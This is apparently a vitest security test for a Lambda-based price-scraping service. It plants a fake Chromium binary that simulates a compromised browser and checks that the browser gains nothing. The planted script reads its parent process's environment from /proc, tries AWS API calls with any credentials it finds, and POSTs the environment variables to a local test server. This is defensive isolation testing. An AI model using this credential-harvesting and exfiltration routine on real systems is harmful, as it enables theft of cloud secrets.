// A program instead of Chromium that simulates a compromised browser: it reads everything it can and uses any
// credentials it finds. It gets exactly what SECURITY.md says.
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SiteResult } from '../../lambdas/domain/result/site-result.ts';
import { environment } from '../../lambdas/environment.ts';
import { startLocalStack } from '../../local/stack.ts';
import { synthesizeProject } from '../../local/synthesize-project.ts';
import { productHtml } from '../fakes/tiers.ts';
import { api, type LocalStack, useServer } from './stack.ts';

interface Call {
  service: 'DYNAMODB' | 'SQS' | 'LAMBDA';
  path: string;
  target?: string;
  body: object;
}

interface Report {
  own: Record<string, string>;
  parents: Record<string, string>;
  calls: { service: string; path: string; status: number; text: string }[];
}

/** Runs as the browser and as the reference: both make the same calls. */
const callAws = async (
  calls: readonly Call[],
  variables: Record<string, string | undefined>,
): Promise<Report['calls']> => {
  const { AWS_ACCESS_KEY_ID: key, AWS_ENDPOINT_URL: general } = variables;
  const answers: Report['calls'] = [];
  for (const { service, path, target, body } of calls) {
    const endpoint = variables[`AWS_ENDPOINT_URL_${service}`] ?? general;
    const response = await fetch(`${endpoint}${path}`, {
      method: 'POST',
      headers: {
        'Content-Type': 'application/x-amz-json-1.0',
        'X-Amz-Date': '20261101T000000Z',
        ...(target && { 'X-Amz-Target': target }),
        Authorization: `AWS4-HMAC-SHA256 Credential=${key}/20261101/us-east-1/${service.toLowerCase()}/aws4_request, SignedHeaders=host, Signature=0`,
      },
      body: JSON.stringify(body),
    });
    answers.push({ service, path, status: response.status, text: (await response.text()).slice(0, 300) });
  }
  return answers;
};

let stack: LocalStack;
let folder: string;
let calls: Call[];
let report: Report;
let sites: SiteResult[];

const reported = Promise.withResolvers<Report>();
const shop = useServer(async (request, response) => {
  if (request.method === 'POST') {
    let text = '';
    for await (const chunk of request) text += chunk;
    reported.resolve(JSON.parse(text) as Report);
  }
  response.setHeader('Content-Type', 'text/html').end(productHtml());
});

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'scrap-prices-test-'));
  const assembly = synthesizeProject({});
  const functionIds = Object.entries(assembly.template.Resources)
    .filter(([, { Type }]) => Type === 'AWS::Lambda::Function')
    .map(([id]) => id);
  // It knows all names, as the worst case: security must not depend on their secrecy.
  calls = [
    { service: 'DYNAMODB', path: '/', target: 'DynamoDB_20120810.ListTables', body: {} },
    { service: 'SQS', path: '/', target: 'AmazonSQS.ListQueues', body: {} },
    ...functionIds
      .flatMap((id) => [
        `/2015-03-31/functions/${id}/invocations`,
        `/2021-11-15/functions/${id}/response-streaming-invocations`,
      ])
      .map((path): Call => ({ service: 'LAMBDA', path, body: {} })),
    { service: 'LAMBDA', path: '/2015-03-31/functions/', body: {} },
  ];
  const program = join(folder, 'chrome');
  writeFileSync(
    program,
    `#!${process.execPath}
const { readFileSync } = require('node:fs');
const callAws = ${callAws.toString()};
const read = (path) => { try { return readFileSync(path, 'latin1'); } catch { return ''; } };
const parents = Object.fromEntries(
  read('/proc/' + process.ppid + '/environ').split('\\0').filter(Boolean).map((line) => [
    line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1),
  ]),
);
callAws(${JSON.stringify(calls)}, parents).then((calls) =>
  fetch('${shop.origin}/report', {
    method: 'POST',
    body: JSON.stringify({ own: process.env, parents, calls }),
  }),
);
`,
  );
  chmodSync(program, 0o755);
  const [, renderer] = Object.entries(assembly.template.Resources).find(
    ([id, { Type }]) => Type === 'AWS::Lambda::Function' && id.startsWith('Renderer'),
  )!;
  renderer.Properties!.Environment = { Variables: { [environment.chromePath]: program } };
  stack = await startLocalStack({ assembly, allowedTargets: [shop.target] });
  const call = api(() => stack);
  const requestId = await call.queue(
    [
      {
        Name: 'The tenant’s own name',
        Url: `${shop.origin}/p`,
        RenderMode: 'Browser',
        Reference: 'tenant-7',
      },
      { Url: `${shop.origin}/p`, RenderMode: 'Http' },
    ],
    '555088-105',
  );
  report = await reported.promise;
  sites = ((await call.settled(requestId)).view.Data as { Sites: SiteResult[] }).Sites;
});
afterAll(async () => {
  await stack?.close();
  rmSync(folder, { recursive: true, force: true });
});

describe('a compromised browser', () => {
  it('can read its parent’s environment, which only contains Lambda’s own variables', () => {
    const { [environment.chromePath]: _planted, ...variables } = report.parents;
    const byLambda =
      /^(AWS_(REGION|DEFAULT_REGION|ACCESS_KEY_ID|SECRET_ACCESS_KEY|LAMBDA_\w+)|LAMBDA_TASK_ROOT|_HANDLER|PATH|LANG|TZ|HOME|TMPDIR)$/;
    // Added by the local stack only: its endpoints and the channel to its process.
    const byLocalStack = /^(AWS_ENDPOINT_URL\w*|NODE_CHANNEL_\w+|NODE_\w+)$/;
    expect(Object.keys(variables)).toContain('AWS_ACCESS_KEY_ID');
    const others = Object.keys(variables).filter((name) => !byLambda.test(name) && !byLocalStack.test(name));
    expect(others).toEqual([]);
  });

  it('learns of no table, queue, license, tenant or other request', () => {
    const text = JSON.stringify([report.own, report.parents]);
    const secrets = [
      ...Object.values(stack.tables),
      ...Object.values(stack.queueUrls),
      stack.endpoints.dynamodb,
      stack.endpoints.sqs,
      stack.license!.licenseKey,
      'tenant-7',
      'tenant’s',
    ];
    for (const secret of secrets) expect(text).not.toContain(secret);
  });

  it('is refused every call with the credentials that it finds', () => {
    expect(report.calls).toHaveLength(calls.length);
    for (const { service, path, status, text } of report.calls) {
      expect({ service, path, status, text }).toMatchObject({
        status: 403,
        text: expect.stringContaining('does not allow'),
      });
    }
  });

  it('is refused because of its role: the same calls succeed with permissions', async () => {
    const own = calls.filter(({ path }) => path === '/' || path.includes('Status'));
    const answers = await callAws(own, {
      ...stack.awsEnv,
      AWS_ENDPOINT_URL: report.parents.AWS_ENDPOINT_URL,
    });
    expect(answers.map(({ status }) => status)).toEqual([200, 200, 200, 200]);
  });

  it('only affects the sites whose pages it had', () => {
    expect(sites[0]).toMatchObject({ Outcome: 'Failed', Error: { Code: 'RendererCrashed' } });
    expect(sites[1]).toMatchObject({ Outcome: 'Priced', RenderMode: 'Http' });
  });
});
